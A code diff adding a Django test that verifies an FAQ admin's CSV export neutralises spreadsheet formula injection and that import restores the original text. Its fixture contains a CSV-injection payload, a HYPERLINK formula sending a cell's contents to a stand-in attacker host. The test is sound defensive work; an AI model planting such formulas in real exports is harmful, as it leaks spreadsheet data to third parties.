@@ -84,3 +84,28 @@ def test_the_admin_imports_and_exports() -> None:
     bad = SimpleUploadedFile("faq.csv", b"\xff\xfe not utf8")
     response = client.post("/admin/faq/faqentry/import-csv/", {"csv_file": bad})
     assert "not UTF-8" in response.content.decode()
+
+
+def test_an_export_opened_in_a_spreadsheet_runs_no_formula_and_imports_back_unchanged() -> None:
+    """A question or answer typed by anyone with admin access (or accepted from a customer's
+    suggested phrasing) that starts with =, +, -, @ or a tab would run as a formula when the
+    export is opened in Excel or LibreOffice (CSV injection). Such cells are exported with a
+    leading apostrophe, which spreadsheets show as text, and import strips it again."""
+    FaqEntry.objects.create(
+        question='=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        alternates="+1 555 0100 is your number?\n@mention me",
+        answer="-5% off: use code SAVE5",
+    )
+    text = services.faq_export_csv()
+    row = next(csv.DictReader(io.StringIO(text)))
+    assert row["question"].startswith("'=")
+    assert row["alternates"].startswith("'+")
+    assert row["answer"].startswith("'-")
+
+    FaqEntry.objects.all().delete()
+    report = services.faq_import_csv(text=text)
+    assert (report.created, report.errors) == (1, [])
+    entry = FaqEntry.objects.get()
+    assert entry.question == '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert entry.phrasings[1:] == ["+1 555 0100 is your number?", "@mention me"]
+    assert entry.answer == "-5% off: use code SAVE5"
